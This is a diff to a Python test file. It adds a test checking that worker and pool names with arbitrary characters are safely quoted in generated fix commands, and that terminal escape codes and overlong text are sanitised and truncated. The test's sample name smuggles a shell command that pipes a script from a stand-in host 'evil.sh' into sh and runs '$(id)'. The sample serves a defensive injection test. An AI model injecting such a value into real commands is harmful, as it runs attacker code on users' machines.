@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
@@ -337,6 +338,17 @@ def test_last_words_are_those_of_the_last_run():
     assert kit_units.last_run("a\nb") == "a\nb"
     # The journal takes lines of 48,000 characters, and no message does.
     assert kit_units.last_run(f"{'x' * 48_000}\nb") == f"{'x' * 300}\nb"
+
+
+def test_names_may_have_any_characters_and_be_of_any_length():
+    """What a person types is what was meant, and no terminal obeys a name."""
+    name = "gpu; curl evil.sh | sh $(id)"
+    seen = Work(workers=[(name, name, 500.0)], unserved=[(name, 2)], slots=[(name, 1)])
+    for found in (*work.workers_online(seen), *work.pools_served(seen), work.free_slots(seen)):
+        assert name in found.mend and name not in re.sub(r"'[^']*'", "", found.mend)
+    long = Finding("pool \033[2J\nOK all", Level.BAD, "x\r\n" * 9000, "", "y" * 9000, "a\nb")
+    (found,) = cli.tried("work", lambda: [long])
+    assert found == Finding("pool [2J OK all", Level.BAD, ("x " * 500)[:1000], "", "y" * 1000, "a\nb")
 
 
 @pytest.mark.parametrize("ask", [asked.said, kit_units._said])
